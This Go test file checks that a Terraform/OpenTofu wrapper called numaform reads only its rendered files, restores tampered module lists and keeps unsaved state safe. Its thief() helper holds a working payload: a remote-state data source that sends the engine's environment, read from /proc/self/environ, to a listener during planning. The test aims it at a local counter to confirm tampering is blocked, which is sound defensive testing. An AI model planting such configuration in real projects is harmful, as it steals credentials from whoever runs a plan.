package state_test

import (
	"errors"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/numaform/numaform/state"
)

// rendered returns a configuration with the files of a root that calls one module.
func rendered(t *testing.T, backend string) (config state.Config) {
	t.Helper()
	return state.Config{
		Root: t.TempDir(),
		Files: map[string][]byte{
			"r/h/main.tf":         []byte(backend),
			"r/h/node-a.tf":       []byte("module \"a\" {\n  source = \"../../modules/m/1\"\n}\n"),
			"modules/m/1/main.tf": []byte(resource("a", "1")),
		},
	}
}

// openRendered opens the workspace of a rendered root.
func openRendered(t *testing.T, config state.Config) *state.Workspace {
	t.Helper()
	return open(t, filepath.Join(config.Root, "r", "h"), func(c *state.Config) {
		c.Root, c.Files, c.Errored, c.BackendConfig = config.Root, config.Files, config.Errored, config.BackendConfig
		if config.Engine != nil {
			c.Engine = config.Engine
		}
	})
}

// listener listens on a local address and counts the connections to it.
func listener(t *testing.T) (address string, connections *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	connections = &atomic.Int32{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			connection, err := l.Accept()
			if err != nil {
				return
			}
			connections.Add(1)
			_ = connection.Close()
		}
	}()
	t.Cleanup(func() {
		_ = l.Close()
		<-done
	})
	return l.Addr().String(), connections
}

// thief returns a configuration that makes the engine, without a provider, send secrets from
// its environment to a listener while it plans.
func thief(address string) string {
	return `data "terraform_remote_state" "x" {
  backend = "http"
  config  = { address = "http://` + address + `/${filebase64("/proc/self/environ")}" }
}
`
}

// TestOnlyRenderedFiles checks that the engine never reads files that are added or changed
// in the directories of a root before a plan, or between a plan and its apply. As a
// control, it reads them if Files is not set.
func TestOnlyRenderedFiles(t *testing.T) {
	t.Parallel()
	const dir = "r/h/"
	cases := map[string]struct{ file, link string }{
		"a file more":              {file: dir + "zz.tf"},
		"an override":              {file: dir + "node-a_override.tf"},
		"OpenTofu's own":           {file: dir + "zz.tofu"},
		"a changed node file":      {file: dir + "node-a.tf"},
		"a file in the module":     {file: "modules/m/1/zz.tf"},
		"the module":               {file: "modules/m/1/main.tf"},
		"a link":                   {link: dir + "zz.tf"},
		"a link in the module":     {link: "modules/m/1/zz.tf"},
		"the module's own, linked": {link: "modules/m/1/main.tf"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			address, connections := listener(t)
			config := rendered(t, localBackend)
			config.BackendConfig = map[string]string{"path": filepath.Join(t.TempDir(), "terraform.tfstate")}
			tamper := func() {
				outside := t.TempDir()
				write(t, outside, "x.tf", thief(address))
				switch {
				case strings.HasSuffix(c.file, "_override.tf"):
					write(t, config.Root, c.file, "module \"a\" {\n  source = \""+outside+"\"\n}\n")
					return
				case c.file != "":
					write(t, config.Root, c.file, thief(address))
					return
				}
				_ = os.Remove(filepath.Join(config.Root, c.link))
				if err := os.Symlink(filepath.Join(outside, "x.tf"), filepath.Join(config.Root, c.link)); err != nil {
					t.Fatal(err)
				}
			}
			w := openRendered(t, config)
			if err := w.Init(t.Context()); err != nil {
				t.Fatal(err)
			}
			tamper()
			plan := mustPlan(t, w, state.PlanOptions{})
			tamper()
			mustApply(t, w, plan)
			for name, content := range config.Files {
				if diff := cmp.Diff(string(content), string(mustRead(t, filepath.Join(config.Root, name)))); diff != "" {
					t.Errorf("%s: %s", name, diff)
				}
			}
			if diff := cmp.Diff([]string{"module.a.terraform_data.a"}, addresses(t, w)); diff != "" {
				t.Errorf("state: %s", diff)
			}
			if connections.Load() > 0 {
				t.Error("the listener was called")
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}

			// As a control, the same files are read if the caller owns the directory.
			tamper()
			config.Files = nil
			config.Engine = &state.Engine{Path: engine(t).Path, Version: engine(t).Version} // without confinement
			control := openRendered(t, config)
			if plan, err := control.Plan(t.Context(), state.PlanOptions{}); connections.Load() == 0 {
				t.Errorf("the control reads nothing either: %v, %v", plan, err)
			}
		})
	}
}

// TestRestoredFilesAreLogged checks that the log names a changed file that is restored, and
// nothing if no file was changed.
func TestRestoredFilesAreLogged(t *testing.T) {
	t.Parallel()
	said := &log{}
	config := rendered(t, localBackend)
	w := open(t, filepath.Join(config.Root, "r", "h"), func(c *state.Config) {
		c.Root, c.Files, c.Log = config.Root, config.Files, said
	})
	if err := w.Init(t.Context()); err != nil {
		t.Fatal(err)
	}
	before := said.count("wrote or removed in " + config.Root)
	if err := w.Init(t.Context()); err != nil || said.count("wrote or removed in "+config.Root) != before {
		t.Errorf("wrote again what was there (%v)", err)
	}
	write(t, config.Root, "r/h/node-a.tf", "")
	if err := w.Init(t.Context()); err != nil || said.count("wrote or removed in "+config.Root+": r/h/node-a.tf\n") != 1 {
		t.Errorf("the log does not name the file (%v)", err)
	}
}

// TestListOfModulesLeadsAstray checks that the engine's list of modules is restored if it
// refers to another directory, and that the engine does not read that directory.
func TestListOfModulesLeadsAstray(t *testing.T) {
	t.Parallel()
	address, connections := listener(t)
	config := rendered(t, localBackend)
	config.BackendConfig = map[string]string{"path": filepath.Join(t.TempDir(), "terraform.tfstate")}
	w := openRendered(t, config)
	if err := w.Init(t.Context()); err != nil {
		t.Fatal(err)
	}
	evil := t.TempDir()
	write(t, evil, "main.tf", thief(address))
	list := filepath.Join(w.Dir(), ".terraform", "modules", "modules.json")
	content := string(mustRead(t, list))
	astray := strings.Replace(content, `"Dir":"../../modules/m/1"`, `"Dir":"`+evil+`"`, 1)
	if astray == content {
		t.Fatalf("no directory to replace in %s", content)
	}
	write(t, filepath.Dir(list), "modules.json", astray)
	mustPlan(t, w, state.PlanOptions{})
	if connections.Load() > 0 {
		t.Error("the listener was called")
	}
	if got := string(mustRead(t, list)); !strings.Contains(got, `"Dir":"../../modules/m/1"`) {
		t.Errorf("the list is %s", got)
	}
}

// TestErroredStateIsKeptElsewhere checks that a state that could not be saved is moved to
// the states' directory, survives the loss of the working directory, and is saved from
// there.
func TestErroredStateIsKeptElsewhere(t *testing.T) {
	t.Parallel()
	for name, crash := range map[string]bool{"at once": false, "after a crash": true} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newBackend(t)
			config := rendered(t, httpBackend(b))
			config.Errored = filepath.Join(t.TempDir(), "states", "r", "h", "errored.tfstate")
			w := openRendered(t, config)
			plan := mustPlan(t, w, state.PlanOptions{})
			b.fail(true)
			_, err := w.Apply(t.Context(), plan)
			b.fail(false)
			if err == nil {
				t.Fatal("the apply ended well")
			}
			left := filepath.Join(w.Dir(), "errored.tfstate")
			if _, err := os.Stat(left); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("it is still in the working directory: %v", err)
			}
			kept := mustRead(t, config.Errored)
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if err := os.RemoveAll(filepath.Join(config.Root, "r")); err != nil {
				t.Fatal(err)
			}
			if crash {
				// numaform died before it moved the state.
				if err := os.Remove(config.Errored); err != nil {
					t.Fatal(err)
				}
				write(t, w.Dir(), "errored.tfstate", string(kept))
			}
			again := openRendered(t, config)
			recovery, err := again.Recover(t.Context())
			if err != nil || !recovery.Pushed {
				t.Fatalf("recovery is %+v, %v", recovery, err)
			}
			if _, err := os.Stat(config.Errored); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("it is still kept: %v", err)
			}
			if plan := mustPlan(t, again, state.PlanOptions{}); plan.Changes {
				t.Errorf("the plan would make it again:\n%s", plan.Text)
			}
		})
	}
}

// TestErroredStates checks that Recover refuses two different unsaved states and deletes
// neither.
func TestErroredStates(t *testing.T) {
	t.Parallel()
	b := newBackend(t)
	config := rendered(t, httpBackend(b))
	states := t.TempDir()
	config.Errored = filepath.Join(states, "errored.tfstate")
	write(t, states, "errored.tfstate", `{"version": 4, "serial": 1, "lineage": "a"}`)
	write(t, filepath.Join(config.Root, "r", "h"), "errored.tfstate", `{"version": 4, "serial": 1, "lineage": "b"}`)
	w := openRendered(t, config)
	if _, err := w.Recover(t.Context()); err == nil || !strings.Contains(err.Error(), config.Errored+" contains a different state: move one of the two files elsewhere") {
		t.Errorf("got %v", err)
	}
	for _, name := range []string{config.Errored, filepath.Join(w.Dir(), "errored.tfstate")} {
		if _, err := os.Stat(name); err != nil {
			t.Error(err)
		}
	}
}

// TestTargetsReadTheirFilesOnly checks that a plan of one module call finds only the file
// of that call, changes nothing else in the root, and needs no init, not even for the first
// call after the root was empty.
func TestTargetsReadTheirFilesOnly(t *testing.T) {
	t.Parallel()
	said := &log{}
	config := rendered(t, localBackend)
	nodes := map[string][]byte{}
	for _, name := range []string{"a", "b", "c"} {
		nodes["r/h/node-"+name+".tf"] = []byte("module \"" + name + "\" {\n  source = \"../../modules/m/1\"\n}\n")
	}
	delete(config.Files, "r/h/node-a.tf")
	w := open(t, filepath.Join(config.Root, "r", "h"), func(c *state.Config) {
		c.Root, c.Files, c.Log = config.Root, config.Files, said
		c.BackendConfig = map[string]string{"path": filepath.Join(t.TempDir(), "terraform.tfstate")}
	})
	apply := func(want []string, options state.PlanOptions) {
		t.Helper()
		plan := mustPlan(t, w, options)
		if diff := cmp.Diff(want, planned(plan)); diff != "" {
			t.Errorf("the plan of %v: %s", options.Targets, diff)
		}
		mustApply(t, w, plan)
	}
	only := func(name string) map[string][]byte {
		return map[string][]byte{"r/h/node-" + name + ".tf": nodes["r/h/node-"+name+".tf"]}
	}
	const a, b, c = "module.a.terraform_data.a", "module.b.terraform_data.a", "module.c.terraform_data.a"

	apply([]string{a, b}, state.PlanOptions{Files: map[string][]byte{"r/h/node-a.tf": nodes["r/h/node-a.tf"], "r/h/node-b.tf": nodes["r/h/node-b.tf"]}})
	apply([]string{c}, state.PlanOptions{Files: only("c"), Targets: []string{"module.c"}})
	if diff := cmp.Diff([]string{a, b, c}, addresses(t, w)); diff != "" {
		t.Errorf("state: %s", diff)
	}
	left, err := filepath.Glob(filepath.Join(w.Dir(), "node-*.tf"))
	if want := []string{filepath.Join(w.Dir(), "node-c.tf")}; err != nil || !cmp.Equal(left, want) {
		t.Errorf("the engine found %v (%v), want %v", left, err, want)
	}
	if plan := mustPlan(t, w, state.PlanOptions{Files: nodes}); plan.Changes {
		t.Errorf("the whole plan changes\n%s", plan.Text)
	}

	apply([]string{b}, state.PlanOptions{Targets: []string{"module.b"}})
	apply([]string{a, c}, state.PlanOptions{})
	apply([]string{a}, state.PlanOptions{Files: only("a"), Targets: []string{"module.a"}})
	if inits := said.count("Initializing the backend"); inits != 1 {
		t.Errorf("%d inits, want 1", inits)
	}
}
